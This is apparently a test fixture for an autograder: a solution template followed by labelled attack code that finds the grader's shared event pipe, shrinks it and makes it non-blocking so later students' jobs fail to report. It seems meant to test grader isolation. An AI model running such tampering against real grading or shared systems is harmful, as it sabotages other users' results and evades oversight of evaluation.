{{SOLUTION}}


# --- attack: the grader's events pipe was one open file description, shared by the grader, the
# warm worker and every child it forks: flags set on it here (no waiting, one packet per write)
# and its size (one page) stayed for every later job, whose probes then failed to report.
# Found by scanning the open descriptors, as the variable naming it is gone; the import then
# fails on purpose, so that this job's own few events fit in the page either way.
import fcntl as _fcntl
import os as _os
import stat as _stat

for _name in _os.listdir("/proc/self/fd"):
    try:
        _fd = int(_name)
        if _fd > 2 and _stat.S_ISFIFO(_os.fstat(_fd).st_mode):
            _fcntl.fcntl(_fd, 1031, 4096)  # F_SETPIPE_SZ
            _fcntl.fcntl(_fd, _fcntl.F_SETFL, _fcntl.fcntl(_fd, _fcntl.F_GETFL) | _os.O_NONBLOCK | _os.O_DIRECT)
            print("changed the flags of descriptor", _fd)
    except OSError:
        pass
raise SystemExit("the pipe is set for the next student")
